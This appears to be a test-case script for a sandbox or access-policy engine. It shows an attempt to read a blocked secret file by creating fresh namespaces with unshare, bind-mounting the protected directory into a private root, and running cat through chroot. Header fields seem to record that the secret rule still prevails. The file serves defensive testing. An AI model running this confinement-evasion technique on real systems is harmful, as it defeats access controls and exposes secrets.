# SPDX-License-Identifier: Apache-2.0
# A container in the container: all namespaces new, a root of its own, the blocked file's directory mounted in it.
#
# As docker in docker, or podman in a pod. Nothing of what identified the workload is left.
#
# ---
# tries: [C2, A9]
# rule: secret
# wins: secret
mkdir "$O/new"
unshare -muinpf --cgroup sh -c '
  mount -t tmpfs none "$O/new" && cd "$O/new" && mkdir vault usr && ln -s usr/lib usr/lib64 usr/bin . &&
  mount --bind "$V" vault && mount --bind /usr usr && exec chroot . /usr/bin/cat /vault/secret'
